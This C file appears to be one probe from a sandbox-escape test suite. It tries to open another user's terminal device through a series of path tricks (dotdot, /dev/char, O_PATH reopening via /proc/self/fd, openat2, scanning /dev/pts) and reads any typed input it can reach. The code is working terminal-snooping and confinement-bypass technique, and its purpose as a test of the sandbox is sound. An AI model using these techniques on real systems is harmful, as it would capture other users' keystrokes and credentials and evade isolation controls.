// technique: open another terminal of the user (/dev/pts/N held by a process outside) by every spelling and read what was typed into it
// needs: foreign-tty
#include "adv.h"
#include <poll.h>
#include <termios.h>
#include <sys/ioctl.h>

static void drain(const char *label, int fd) {
	struct pollfd p = {fd, POLLIN, 0};
	if (poll(&p, 1, 300) <= 0) { printf("%s: opened, nothing to read\n", label); return; }
	dump(label, fd);
}

static void attempt(const char *label, int dirfd, const char *path, int flags) {
	int fd = openat(dirfd, path, flags | O_NONBLOCK | O_NOCTTY);
	if (fd < 0) { printf("%s: %s\n", label, strerror(errno)); return; }
	printf("ADV-GAINED: %s opened the other terminal\n", label);
	drain(label, fd);
	close(fd);
}

int main(void) {
	char p[256], q[256];
	const char *pts = strdup(adv("FOREIGN_PTS")), *num = strdup(adv("FOREIGN_PTS_NUM"));
	attempt("rdonly", AT_FDCWD, pts, O_RDONLY);
	attempt("rdwr", AT_FDCWD, pts, O_RDWR);
	attempt("wronly", AT_FDCWD, pts, O_WRONLY);
	snprintf(p, sizeof p, "/dev/pts/../pts/%s", num);
	attempt("dotdot", AT_FDCWD, p, O_RDWR);
	snprintf(p, sizeof p, "/dev/char/136:%s", num);
	attempt("dev-char", AT_FDCWD, p, O_RDWR);
	int dir = open("/dev/pts", O_PATH | O_DIRECTORY);
	if (dir >= 0) attempt("openat-dirfd", dir, num, O_RDWR);
	// An O_PATH descriptor (the kernel opens it), then reopened through
	// /proc/self/fd and /dev/fd.
	int op = open(pts, O_PATH);
	printf("o_path: %d %s\n", op, op < 0 ? strerror(errno) : "");
	if (op >= 0) {
		snprintf(q, sizeof q, "/proc/self/fd/%d", op);
		attempt("o_path-reopen", AT_FDCWD, q, O_RDWR);
		snprintf(q, sizeof q, "/dev/fd/%d", op);
		attempt("o_path-devfd", AT_FDCWD, q, O_RDWR);
	}
	// openat2 with RESOLVE flags takes the broker's other resolution path.
	struct { unsigned long long flags, mode, resolve; } how = {O_RDWR | O_NONBLOCK | O_NOCTTY, 0, 0x08 /* RESOLVE_NO_SYMLINKS */};
	int fd = syscall(SYS_openat2, AT_FDCWD, pts, &how, sizeof how);
	printf("openat2: %d %s\n", fd, fd < 0 ? strerror(errno) : "");
	if (fd >= 0) { printf("ADV-GAINED: openat2 opened the other terminal\n"); drain("openat2", fd); }
	// Every pts but our own: a terminal the user opened after the world.
	for (int i = 0; i < 64; i++) {
		snprintf(p, sizeof p, "/dev/pts/%d", i);
		int f = open(p, O_RDONLY | O_NONBLOCK | O_NOCTTY);
		if (f >= 0) { printf("scan: opened %s\n", p); drain(p, f); close(f); }
	}
	return 0;
}
